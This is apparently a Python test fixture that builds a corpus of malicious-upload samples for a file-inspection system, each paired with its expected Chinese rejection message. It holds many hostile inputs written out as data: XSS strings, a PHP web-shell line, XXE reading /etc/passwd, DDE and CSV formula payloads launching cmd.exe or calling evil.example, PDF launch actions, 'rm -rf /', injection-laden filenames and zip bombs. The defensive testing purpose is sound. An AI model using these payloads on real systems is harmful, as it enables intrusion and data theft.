"""Files that somebody might hand in with bad intentions, made on the spot: each with the name it is sent under and what
must become of it. None of them does harm here; each is the beginning of one that would.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from accountability.files.inspection import EXTENSIONS
from tests.accountability.files import made_files
from tests.accountability.files.packages import bomb, deep_bombs, locked, lying, many_parts, nested, zipped

NOT_TAKEN = f"不接受这种文件，可用：{' '.join(EXTENSIONS)}"
MISMATCH = "内容与扩展名不符"
PAGE = "文件中夹有网页或脚本"
ACTIVE = "文件含有宏、控件或内嵌对象"
OUTSIDE = "文件引用了外部模板或文件，请断开链接后另存"
LINKS = "单元格中的链接公式（HYPERLINK）会隐去真实地址，请改为直接写出网址"
STARTS = "文件中的域或公式会启动程序或读取外部内容"
BROKEN = "文件已损坏"
LARGE = "文件解压后过大"
LOCKED = "文件加了密码，无法检查"
BAD_PDF = "PDF 不合规范，无法完整检查，请重新导出（打印为 PDF）后再传"
IN_PDF = "PDF 含有脚本、启动命令或内嵌文件"
PIXELS = "图片尺寸过大（超过 5000 万像素）"
BEHIND = "图片后面附有别的内容"
CUT = "图片不完整"
NO_TEXT = "文字不是 UTF-8 或 GB18030 编码，请另存后再传"
OLD = "文件加了密码或为旧版 Office 格式，请去掉密码并另存为 .{}"


@dataclass(frozen=True)
class Nasty:
    """`why`: the reason in the refusal, None where it is kept (and served as nothing but a file to be saved).

    `shown`: the name it is spoken of by, where that isn't the one it was sent under.
    """

    what: str
    name: str
    make: Callable[[], bytes]
    why: str | None
    shown: str = ""

    @property
    def called(self) -> str:
        return self.shown or self.name


SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"
MHT = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    + HTML
)
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)
FONT = b"\x00\x01\x00\x00\x00\x0a\x00\x80" + bytes(200)
RTF = rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105}}}"
GIF = b"GIF89a/*" + bytes(10) + b"*/=1;alert(1);"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]>"
)

W = b'<w:document xmlns:w="w">'


def chunked(name: bytes, data: bytes) -> bytes:
    """A picture with one more chunk."""
    whole = made_files.png()
    return whole[:33] + made_files._chunk(name, data) + whole[33:]


def webp(width: int = 16383, height: int = 16383) -> bytes:
    body = (
        b"WEBPVP8X\x0a\x00\x00\x00" + bytes(4) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def with_exif(said: bytes) -> bytes:
    whole = made_files.jpeg()
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(said) + 8) + b"Exif\x00\x00" + said + whole[2:]


def sheet_with(formula: bytes, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    return made_files.xlsx(
        {part: b'<worksheet xmlns="x"><sheetData><row><c><f>' + formula + b"</f></c></row></sheetData></worksheet>"}
    )


def words_with(inside: bytes) -> bytes:
    return made_files.docx({"word/document.xml": W + inside + b"</w:document>"})


def field(*pieces: bytes) -> bytes:
    """A field whose code is cut over several runs."""
    runs = b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in pieces)
    return b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'


BEGIN_D = b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText></w:r>'
DE_END = b'<w:r><w:instrText>DE cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
TWO_PREFIXES = b'<w:fldSimple w:instr="DDE cmd" x:instr="PAGE" xmlns:x="x"/>'


def elsewhere() -> bytes:
    part = {"word/a.bin": W + field(b"DDE x") + b"</w:document>"}
    return made_files.docx(part, made_files.overridden("word/a.bin", made_files.WORD))


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    return made_files.docx({"word/_rels/document.xml.rels": made_files.relation(kind, target, mode=mode)})


def as_is(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _pages() -> Iterator[Nasty]:
    for name, content in {
        "a.svg": SVG, "a.html": HTML, "a.htm": HTML, "a.xhtml": XHTML, "a.mht": MHT, "a.xml": XXE, "a.js": b"alert(1)",
        "a.php": PHP, "a.hta": HTML, "a.swf": b"CWS\x06" + bytes(40), "a.vbs": b"MsgBox 1", "a.url": b"[InternetShortcut]",
        "a.gif": GIF, "a.webp": webp(), "a.bmp": b"BM" + bytes(60), "a.tiff": b"II*\x00" + bytes(60), "a.ico": bytes(40),
        "a.exe": EXE, "a.dll": EXE, "a.elf": ELF, "a": ELF, "a.dmg": MACHO, "a.sh": b"#!/bin/sh\nid\n", "a.bat": b"@echo off",
        "a.ps1": b"Get-Process", "a.jar": zipped({"META-INF/MANIFEST.MF": b""}), "a.apk": zipped({"classes.dex": b""}),
        "a.iso": bytes(32769) + b"CD001" + bytes(100), "a.lnk": LNK, "a.cab": b"MSCF" + bytes(40), "a.msi": OLE,
        "a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40), "a.rar": b"Rar!\x1a\x07\x01\x00" + bytes(40), "a.zip": zipped({"a": b""}),
        "a.gz": b"\x1f\x8b\x08" + bytes(40), "a.rtf": RTF, "a.doc": OLE, "a.xls": OLE, "a.docm": made_files.docx(),
        "a.xlsm": made_files.xlsx(), "a.pptx": made_files.docx(), "a.ttf": FONT, "a.woff2": b"wOF2" + bytes(40), "a.eml": MHT,
        "a.reg": b"Windows Registry Editor", "a.scf": b"[Shell]", "a.chm": b"ITSF" + bytes(40), "a.wmf": bytes(40),
    }.items():  # fmt: skip
        yield Nasty(f"kind {name}", name, as_is(content), NOT_TAKEN)


def _names() -> Iterator[Nasty]:
    for name, shown in {
        "账单.pdf.exe": "", "账单.exe.": "账单.exe", "a.php.": "a.php", "a.asp;.jpg": "", "a.pdf%00.exe": "", "a.svgz": "",
        "a.pdf::$DATA": "a.pdf__$DATA", "a.html\u200b": "a.html", "..\\..\\a.bat": "a.bat", "a.pdf ": "a.pdf",
    }.items():  # fmt: skip
        ends = (shown or name).rpartition(".")[2]
        why = None if ends == "pdf" else MISMATCH if ends == "jpg" else NOT_TAKEN
        yield Nasty(f"ends in {name!r}", name, as_is(made_files.pdf()), why, shown)
    for name, shown in {
        "../../../etc/passwd.pdf": "passwd.pdf", "..\\..\\windows\\a.pdf": "a.pdf", "/etc/cron.d/a.pdf": "a.pdf",
        "C:\\a.pdf": "a.pdf", "....//a.pdf": "a.pdf", "fdp.\u202eexe.pdf": "fdp.exe.pdf", "a\x00.exe.pdf": "a.exe.pdf",
        "a\r\nX-Injected: 1.pdf": "aX-Injected_ 1.pdf", "a\u2028b\u2029.pdf": "ab.pdf", '"><img src=x>.pdf': "__img src=x_.pdf",
        "长" * 300 + ".pdf": "长" * 116 + ".pdf", "a" * 5000 + ".pdf": "a" * 116 + ".pdf", "CON.pdf": "_CON.pdf",
        "aux.x.pdf": "_aux.x.pdf", ".pdf.pdf": "pdf.pdf", "账单.exe.pdf": "", "a.php.pdf": "", "=cmd|'x'!A1.pdf": "=cmd_'x'!A1.pdf",
        "$(id).pdf": "", "`id`.pdf": "", "a;id.pdf": "", "{{7*7}}.pdf": "", "-rf.pdf": "", "%2e%2e%2fa.pdf": "",
        "\ufeff\u2066a\u2069.pdf": "a.pdf", "\x1b[31ma.pdf": "[31ma.pdf",
    }.items():  # fmt: skip
        yield Nasty(f"called {name[:40]!r}", name, as_is(made_files.pdf()), None, shown)


def _claims() -> Iterator[Nasty]:
    """Something else under a name that is taken."""
    for content, what in ((SVG, "SVG"), (HTML, "HTML"), (EXE, "PE"), (ELF, "ELF"), (GIF, "GIF and JS"), (RTF, "RTF")):
        for extension in ("pdf", "png", "jpg", "wav", "m4a", "amr"):
            # What is a page is said to be one where that is looked for before the head.
            page = content in (SVG, HTML) and extension in ("wav", "m4a", "amr")
            yield Nasty(f"{what} as {extension}", f"a.{extension}", as_is(content), PAGE if page else MISMATCH)
    for content, what in ((SVG, "SVG"), (HTML, "HTML"), (b"#!/bin/sh\nid\n", "shell"), (RTF, "RTF"), (PHP, "PHP")):
        yield Nasty(f"{what} as txt", "a.txt", as_is(content), MISMATCH)
    yield Nasty("PE as txt", "a.txt", as_is(EXE), NO_TEXT)
    yield Nasty("HTML after blanks", "a.txt", as_is(b"\xef\xbb\xbf \n\t" + HTML), MISMATCH)
    yield Nasty("UTF-16 text", "a.txt", as_is("<script>".encode("utf-16")), NO_TEXT)
    yield Nasty("HTML inside words", "a.txt", as_is(b"he wrote: " + SCRIPT), None)
    yield Nasty("nothing", "a.pdf", as_is(b""), "文件是空的")
    yield Nasty("too large", "a.txt", lambda: b"a" * (20 * 1024 * 1024 + 1), "文件超过 20 MB")
    yield Nasty("old Word as docx", "a.docx", as_is(OLE), OLD.format("docx"))
    yield Nasty("old Excel as xlsx", "a.xlsx", as_is(OLE), OLD.format("xlsx"))
    yield Nasty("zip as docx", "a.docx", as_is(zipped({"a": b""})), MISMATCH)
    yield Nasty("jar as xlsx", "a.xlsx", as_is(zipped({"META-INF/MANIFEST.MF": b""})), MISMATCH)
    yield Nasty("docx as xlsx", "a.xlsx", as_is(made_files.docx()), MISMATCH)


def _two_in_one() -> Iterator[Nasty]:
    package = zipped({"a.class": b"x"})
    yield Nasty("PNG, then HTML", "a.png", as_is(made_files.png() + HTML), BEHIND)
    yield Nasty("PNG, then zip", "a.png", as_is(made_files.png() + package), BEHIND)
    yield Nasty("PNG with a script as its text", "a.png", as_is(chunked(b"tEXt", b"Comment\x00" + SCRIPT)), PAGE)
    yield Nasty("PNG with PHP in its pixels", "a.png", as_is(chunked(b"IDAT", PHP)), PAGE)
    yield Nasty("JPEG, then PHP", "a.jpg", as_is(made_files.jpeg() + PHP), PAGE)
    yield Nasty("JPEG, then zip", "a.jpg", as_is(made_files.jpeg() + package), PAGE)
    yield Nasty(
        "JPEG, then jar with a comment",
        "a.jpg",
        as_is(made_files.jpeg() + zipped({"a": b""}, comment=b"x" * 60000)),
        PAGE,
    )
    yield Nasty("EXIF with a script", "a.jpg", as_is(with_exif(SCRIPT)), PAGE)
    yield Nasty("EXIF with quotes", "a.jpg", as_is(with_exif(b"\"onerror=alert(1) x='")), None)
    yield Nasty("PDF and HTML", "a.pdf", as_is(made_files.pdf(head=b"%PDF-1.7\n%" + HTML + b"\n")), PAGE)
    yield Nasty("PDF and zip", "a.pdf", as_is(made_files.pdf() + package + b"%%EOF"), PAGE)
    yield Nasty("zip and PDF", "a.pdf", as_is(package + made_files.pdf()), MISMATCH)
    yield Nasty("PDF after a blank", "a.pdf", as_is(b"\n" + made_files.pdf()), MISMATCH)
    yield Nasty("docx, then PDF", "a.docx", as_is(made_files.docx() + made_files.pdf()), BROKEN)
    yield Nasty(
        "docx, then docx", "a.docx", as_is(made_files.docx({"word/x.xml": b"<a/>"}) + made_files.docx()), BROKEN
    )
    yield Nasty(
        "docx with a comment", "a.docx", as_is(zipped({"[Content_Types].xml": b"<Types/>"}, comment=HTML)), BROKEN
    )
    yield Nasty("WAV and JS", "a.wav", as_is(made_files.wav() + SCRIPT), PAGE)
    yield Nasty(
        "MP3 with a page in its tag", "a.mp3", as_is(made_files.mp3()[:10] + HTML[:10] + made_files.mp3()[20:]), PAGE
    )
    yield Nasty("M4A with a page", "a.m4a", as_is(made_files.m4a() + made_files._box(b"free", HTML)), PAGE)
    yield Nasty("AMR and shell", "a.amr", as_is(b"#!AMR\nrm -rf /\n"), MISMATCH)


def _pictures() -> Iterator[Nasty]:
    yield Nasty("PNG of 65535²", "a.png", as_is(made_files.png(65535, 65535)), PIXELS)
    yield Nasty("PNG of 2³¹ x 1", "a.png", as_is(made_files.png(2**31 - 1, 1)), PIXELS)
    yield Nasty("JPEG of 65535²", "a.jpg", as_is(made_files.jpeg(65535, 65535)), PIXELS)
    yield Nasty("JPEG of nothing", "a.jpg", as_is(made_files.jpeg(0, 16)), MISMATCH)
    yield Nasty("PNG cut off", "a.png", lambda: made_files.png()[:-20], CUT)
    yield Nasty("JPEG cut off", "a.jpg", lambda: made_files.jpeg()[:12], CUT)
    yield Nasty("PNG that moves", "a.png", as_is(chunked(b"acTL", struct.pack(">II", 2**31 - 1, 0))), None)
    yield Nasty(
        "PNG with a packed text bomb",
        "a.png",
        lambda: chunked(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(50_000_000))),
        None,
    )
    yield Nasty("PNG of a chunk too long", "a.png", as_is(made_files.png()[:33] + b"\xff\xff\xff\xffIDAT"), CUT)


def _documents() -> Iterator[Nasty]:
    yield Nasty(
        "PDF with a script",
        "a.pdf",
        as_is(made_files.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        IN_PDF,
    )
    yield Nasty(
        "PDF with a hidden script", "a.pdf", as_is(made_files.pdf(b"/OpenAction << /S /J#61vaScript >>")), IN_PDF
    )
    yield Nasty("PDF with a packed script", "a.pdf", as_is(made_files.packed_pdf(b"/JS (x)")), IN_PDF)
    yield Nasty("PDF that starts a program", "a.pdf", as_is(made_files.pdf(b"/S /Launch /F (cmd.exe)")), IN_PDF)
    yield Nasty("PDF with a file", "a.pdf", as_is(made_files.pdf(b"/A << /Type /EmbeddedFile >>")), IN_PDF)
    yield Nasty("PDF with a form program", "a.pdf", as_is(made_files.pdf(b"/XFA 2 0 R")), IN_PDF)
    yield Nasty("PDF that opens a share", "a.pdf", as_is(made_files.pdf(b"/S /GoToR /F (\\\\\\\\evil\\\\a)")), IN_PDF)
    yield Nasty(
        "PDF with a password", "a.pdf", as_is(made_files.pdf(trailer=b"/Encrypt 3 0 R /ID [<00> <00>] ")), BAD_PDF
    )
    yield Nasty("PDF cut off", "a.pdf", lambda: made_files.pdf()[:30], MISMATCH)
    yield Nasty("PDF that names a thing twice", "a.pdf", as_is(made_files.pdf(b"/Type /EmbeddedFile")), BAD_PDF)
    macro = {"word/vbaProject.bin": OLE}
    yield Nasty("docx with macros", "a.docx", as_is(made_files.docx(macro)), ACTIVE)
    yield Nasty(
        "docm called docx",
        "a.docx",
        as_is(
            made_files.office(
                {"word/document.xml": b"<a/>"} | macro,
                made_files.overridden("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
            )
        ),
        MISMATCH,
    )
    yield Nasty(
        "docx with macros by type",
        "a.docx",
        as_is(
            made_files.docx(
                {"word/x.bin": OLE}, made_files.overridden("word/x.bin", "application/vnd.ms-office.vbaProject")
            )
        ),
        ACTIVE,
    )
    yield Nasty("docx with a control", "a.docx", as_is(made_files.docx({"word/activeX/activeX1.xml": b"<a/>"})), ACTIVE)
    yield Nasty("docx with OLE", "a.docx", as_is(made_files.docx({"word/embeddings/oleObject1.bin": OLE})), ACTIVE)
    yield Nasty("docx with a program", "a.docx", as_is(made_files.docx({"word/embeddings/a.exe": EXE})), ACTIVE)
    yield Nasty(
        "docx with a workbook with macros",
        "a.docx",
        as_is(made_files.docx({"word/embeddings/a.xlsx": made_files.xlsx({"xl/vbaProject.bin": OLE})})),
        ACTIVE,
    )
    yield Nasty(
        "docx with something that isn't a workbook",
        "a.docx",
        as_is(made_files.docx({"word/embeddings/a.xlsx": EXE})),
        MISMATCH,
    )
    yield Nasty(
        "docx three deep",
        "a.docx",
        as_is(
            made_files.docx({"word/embeddings/a.docx": made_files.docx({"word/embeddings/b.docx": made_files.docx()})})
        ),
        ACTIVE,
    )
    yield Nasty(
        "docx with a chart's numbers",
        "a.docx",
        as_is(made_files.docx({"word/embeddings/a.xlsx": made_files.xlsx()})),
        None,
    )
    yield Nasty("docx with a page", "a.docx", as_is(linked("aFChunk", "a.mht", mode="Internal")), ACTIVE)
    yield Nasty(
        "docx with a page by type",
        "a.docx",
        as_is(made_files.docx({"word/a.htm": HTML}, made_files.overridden("word/a.htm", "text/html"))),
        ACTIVE,
    )
    yield Nasty(
        "docx with a template", "a.docx", as_is(linked("attachedTemplate", "https://evil.example/a.dotm")), OUTSIDE
    )
    yield Nasty("docx with a picture from elsewhere", "a.docx", as_is(linked("image", "\\\\evil\\a.png")), OUTSIDE)
    yield Nasty("docx linked to an object", "a.docx", as_is(linked("oleObject", "file:///c:/a.exe")), ACTIVE)
    yield Nasty(
        "docx with DDE", "a.docx", as_is(words_with(field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))), STARTS
    )
    yield Nasty("docx with DDE in pieces", "a.docx", as_is(words_with(field(b"D", b"DE", b"AUTO cmd"))), STARTS)
    yield Nasty("docx with DDE in numbers", "a.docx", as_is(words_with(field(b"&#68;DE cmd"))), STARTS)
    yield Nasty(
        "docx with DDE in a simple field", "a.docx", as_is(words_with(b'<w:fldSimple w:instr=" DDE cmd "/>')), STARTS
    )
    yield Nasty("docx that quotes numbers", "a.docx", as_is(words_with(field(b"QUOTE 68 68 69"))), STARTS)
    yield Nasty(
        "docx that includes", "a.docx", as_is(words_with(field(b'INCLUDEPICTURE "http://evil.example/a"'))), STARTS
    )
    yield Nasty("docx with DDE after blanks", "a.docx", as_is(words_with(field(b" " * 300, b"DDE cmd"))), STARTS)
    yield Nasty("docx with DDE round a field", "a.docx", as_is(words_with(BEGIN_D + field(b"x") + DE_END)), STARTS)
    yield Nasty("docx with DDE under two prefixes", "a.docx", as_is(words_with(TWO_PREFIXES)), STARTS)
    yield Nasty("docx with DDE raw", "a.docx", as_is(words_with(field(b"<![CDATA[DDE cmd]]>"))), STARTS)
    yield Nasty("docx with its words under another ending", "a.docx", elsewhere, STARTS)
    yield Nasty(
        "docx with DDE in its foot",
        "a.docx",
        as_is(made_files.docx({"word/footer1.xml": W + field(b"DDE x") + b"</w:document>"})),
        STARTS,
    )
    yield Nasty(
        "docx in letters of two bytes",
        "a.docx",
        as_is(made_files.docx({"word/document.xml": "<a>DDE</a>".encode("utf-16")})),
        BROKEN,
    )
    yield Nasty(
        "docx with a link to click",
        "a.docx",
        as_is(words_with(field(b'HYPERLINK "https://example.com/link/DDE"'))),
        None,
    )
    for name, content in (("XXE", XXE + b"<a>&e;</a>"), ("laughs", LAUGHS + b"<a>&j;</a>")):
        yield Nasty(f"docx with {name}", "a.docx", as_is(made_files.docx({"word/document.xml": content})), BROKEN)
        yield Nasty(
            f"docx with {name} in its relations", "a.docx", as_is(made_files.docx({"_rels/.rels": content})), BROKEN
        )
        yield Nasty(f"xlsx with {name}", "a.xlsx", as_is(made_files.xlsx({"xl/sharedStrings.xml": content})), BROKEN)
    yield Nasty("docx with a password", "a.docx", lambda: locked(made_files.docx()), LOCKED)
    yield Nasty("docx that climbs", "a.docx", as_is(made_files.docx({"../../../etc/cron.d/a": b"x"})), BROKEN)
    yield Nasty(
        "docx that climbs by \\",
        "a.docx",
        as_is(made_files.docx({"word/a.xml": b"<a/>"}).replace(b"word/a.xml", b"word\\a.xml")),
        BROKEN,
    )
    yield Nasty(
        "docx with a part twice",
        "a.docx",
        as_is(made_files.docx({"word/A.xml": b"<a/>", "word/a.xml": b"<a/>"})),
        BROKEN,
    )


def _workbooks() -> Iterator[Nasty]:
    yield Nasty("xlsx with macros", "a.xlsx", as_is(made_files.xlsx({"xl/vbaProject.bin": OLE})), ACTIVE)
    yield Nasty(
        "xlsx with old macros", "a.xlsx", as_is(made_files.xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"})), ACTIVE
    )
    yield Nasty("xlsx with DDE", "a.xlsx", as_is(sheet_with(b"cmd|'/c calc'!A0")), STARTS)
    yield Nasty("xlsx with DDE in numbers", "a.xlsx", as_is(sheet_with(b"cmd&#124;&apos;/c calc&apos;!A0")), STARTS)
    yield Nasty(
        "xlsx with DDE by name",
        "a.xlsx",
        as_is(
            made_files.xlsx(
                {
                    "xl/workbook.xml": b"<workbook><definedNames><definedName name='a'>cmd|'/c'!A0</definedName></definedNames></workbook>"
                }
            )
        ),
        STARTS,
    )
    yield Nasty(
        "xlsx that asks a server", "a.xlsx", as_is(sheet_with(b'WEBSERVICE("http://evil.example/"&amp;A1)')), STARTS
    )
    yield Nasty(
        "xlsx with a link to another",
        "a.xlsx",
        as_is(
            made_files.xlsx(
                {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
            )
        ),
        OUTSIDE,
    )
    yield Nasty(
        "xlsx with a connection", "a.xlsx", as_is(made_files.xlsx({"xl/connections.xml": b"<connections/>"})), OUTSIDE
    )
    yield Nasty("xlsx with a sum", "a.xlsx", as_is(sheet_with(b'SUM(A1:A9)&amp;"a!b"')), None)
    yield Nasty("csv with DDE", "a.csv", as_is("姓名,备注\n甲,=cmd|'/c calc'!A0\n".encode()), STARTS)
    yield Nasty("csv with DDE in quotes", "a.csv", as_is(b"a,\"@SUM(1)+cmd|'/c calc'!A0\"\n"), STARTS)
    yield Nasty("csv that asks a server", "a.csv", as_is(b'a,+WEBSERVICE("http://evil.example")\n'), STARTS)
    yield Nasty("csv with a link", "a.csv", as_is(b'a,"=HYPERLINK(""http://evil.example/""&A1,""x"")"\n'), LINKS)
    yield Nasty(
        "csv with a link after blanks", "a.csv", as_is('a;  ＝hyperlink （"http://evil.example"）\n'.encode()), LINKS
    )
    yield Nasty("csv that fetches a picture", "a.csv", as_is(b'a\t=IMAGE("http://evil.example")\n'), STARTS)
    yield Nasty(
        "csv that asks late", "a.csv", as_is(b'"=1&' + b'""x""&' * 300 + b'WEBSERVICE(""http://evil"")"\n'), STARTS
    )
    yield Nasty("csv that asks on a second line", "a.csv", as_is(b'"=1&\nWEBSERVICE(""http://evil"")"\n'), STARTS)
    yield Nasty("csv with the name of a function", "a.csv", as_is("用 HYPERLINK (x) 写,-1\n".encode()), None)
    yield Nasty("csv with a formula made a text", "a.csv", as_is(b"a,'=HYPERLINK(1)\n"), None)
    yield Nasty("csv with a dash", "a.csv", as_is("时间,内容\n10:00,- 来电 | 未接！\n".encode()), None)
    yield Nasty("csv of a page", "a.csv", as_is(HTML), MISMATCH)


def _bombs() -> Iterator[Nasty]:
    yield Nasty("packages in packages", "a.docx", nested, MISMATCH)
    yield Nasty("a part of 300 MB", "a.docx", lambda: bomb(300), LARGE)
    yield Nasty("a part of 150 MB", "a.docx", lambda: bomb(150), LARGE)
    yield Nasty("words of 100 MB", "a.docx", lambda: bomb(100, "word/large.xml"), LARGE)
    yield Nasty("a list of 20 MB", "a.docx", lambda: bomb(20, "word/_rels/large.xml.rels"), LARGE)
    yield Nasty("a part that lies", "a.docx", lambda: lying(bomb(30, "word/large.xml")), BROKEN)
    yield Nasty("packages that are many bombs", "a.docx", deep_bombs, LARGE)
    yield Nasty("193 KB of 198 MB", "a.docx", lambda: bomb(189, "word/media/a.png"), LARGE)
    yield Nasty("packed by LZMA", "a.docx", lambda: zipped({"a": bytes(9)}, method=zipfile.ZIP_LZMA), BROKEN)
    yield Nasty("many parts", "a.docx", many_parts, LARGE)


def corpus() -> list[Nasty]:
    makers = (_pages, _names, _claims, _two_in_one, _pictures, _documents, _workbooks, _bombs)
    return [nasty for make in makers for nasty in make()]
